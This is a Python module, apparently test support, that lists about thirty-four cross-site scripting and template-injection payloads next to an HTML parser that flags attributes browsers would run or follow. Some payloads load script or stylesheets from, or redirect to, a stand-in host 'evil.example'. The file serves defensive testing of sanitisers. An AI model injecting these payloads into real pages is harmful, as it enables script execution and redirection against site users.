"""Texts that try to be more than texts, and what a page is made of."""

from collections import Counter
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1337)</script>",
    "</script><script>alert(1337)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1337)>",
    "<img/src=`x`onerror=alert(1337)>",
    "<svg onload=alert(1337)>",
    "<svg><script>alert(1337)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1337)'>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1337)></mtext></math>",
    "<iframe src=javascript:alert(1337)></iframe>",
    "<iframe srcdoc='<script>alert(1337)</script>'></iframe>",
    "<a href='javascript:alert(1337)'>x</a>",
    "<a href=' java\tscript:alert(1337)'>x</a>",
    "<body onload=alert(1337)>",
    "<details open ontoggle=alert(1337)>x</details>",
    "<input autofocus onfocus=alert(1337)>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "</style><script>alert(1337)</script>",
    "</title><script>alert(1337)</script>",
    "</textarea><script>alert(1337)</script>",
    "<!--><script>alert(1337)</script>-->",
    "<![CDATA[<script>alert(1337)</script>]]>",
    "]]><script>alert(1337)</script>",
    '" onmouseover=alert(1337) x="',
    "' onmouseover=alert(1337) x='",
    "&lt;script&gt;alert(1337)&lt;/script&gt;",
    "{{ 7|add:1330 }}{% now 'Y' %}${7*191}<%= 7*191 %>",
    "javascript:alert(1337)//",
    "<scr\x00ipt>alert(1337)</scr\x00ipt>",
    "\u202e>tpircs/<)7331(trela>tpircs<\u202c",
)
HARMLESS = "一段寻常的话"
# Which of them would make something of a page that trusted them: the others only look like it.
LIVE = [text for text in PAYLOADS if text.startswith("<") and "CDATA" not in text and "\x00" not in text]

# Attributes whose values a browser follows.
FOLLOWED = {"href", "xlink:href", "src", "srcdoc", "action", "formaction", "data", "poster"}


class _Parts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: Counter[str] = Counter()
        self.scripted: list[str] = []
        self.followed: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.parts[f"{tag} {' '.join(sorted(name for name, _value in attrs))}"] += 1
        self.followed += [value for name, value in attrs if name in FOLLOWED and value]
        self.scripted += [value for name, value in attrs if name in FOLLOWED and value and _is_script(value)]

    def handle_comment(self, data):
        self.parts["comment"] += 1

    def unknown_decl(self, data):
        self.parts["declaration"] += 1


def _is_script(value: str) -> bool:
    return "".join(value.split()).lower().startswith(("javascript:", "vbscript:", "data:text/html"))


def parts_of(html: str) -> Counter[str]:
    """Every element of a page with the names of its attributes, however often; comments and declarations too."""
    parser = _Parts()
    parser.feed(html)
    parser.close()
    return parser.parts


def scripted_in(html: str) -> list[str]:
    """The values of attributes that a browser would run."""
    parser = _Parts()
    parser.feed(html)
    return parser.scripted


def followed_in(html: str) -> list[str]:
    """Every address that a browser would go to or fetch."""
    parser = _Parts()
    parser.feed(html)
    return parser.followed
